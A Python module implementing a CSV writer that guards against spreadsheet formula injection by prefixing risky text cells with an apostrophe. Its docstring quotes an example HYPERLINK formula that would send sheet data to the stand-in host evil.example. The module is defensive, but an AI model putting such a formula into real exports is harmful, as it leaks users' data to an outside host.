"""The one CSV writer of the services: no cell reaches a spreadsheet as a formula.

Spreadsheet programs run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and some, after
a leading tab or carriage return, or after spaces they trim) as a formula: a unit named
``=HYPERLINK("http://evil.example/?leak="&A1,"Klik")`` would become a live link that sends the
sheet's data away. Following OWASP ("CSV Injection"), :func:`neutral` prefixes such a text cell
with ``'``, which the programs show as text and do not store; policy's CSV import strips that
marker again, so an exported table can be imported back unchanged. Only text is touched: the
numbers the exports write as numbers (counts, minutes, scores) stay numbers, negative ones too.

Plumbing rather than a rule of the domain (it knows nothing of attendance): every service that
writes CSV calls :func:`to_csv`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

TRIGGERS = frozenset("=+-@\t\r")
MARKER = "'"


def neutral(value: Any) -> Any:
    """``value`` with ``'`` before it when it is text a spreadsheet would read as a formula
    (its first character, or its first after leading whitespace, is one of :data:`TRIGGERS`);
    anything else unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in TRIGGERS or value.lstrip()[:1] in TRIGGERS:
        return MARKER + value
    return value


def to_csv(headers: Sequence[Any], rows: Iterable[Sequence[Any]]) -> bytes:
    """A table as CSV: UTF-8 with a byte-order mark (spreadsheets then read the accents), CRLF
    line ends, every cell (headers too) through :func:`neutral`."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([neutral(h) for h in headers])
    writer.writerows([neutral(cell) for cell in row] for row in rows)
    return buffer.getvalue().encode("utf-8-sig")
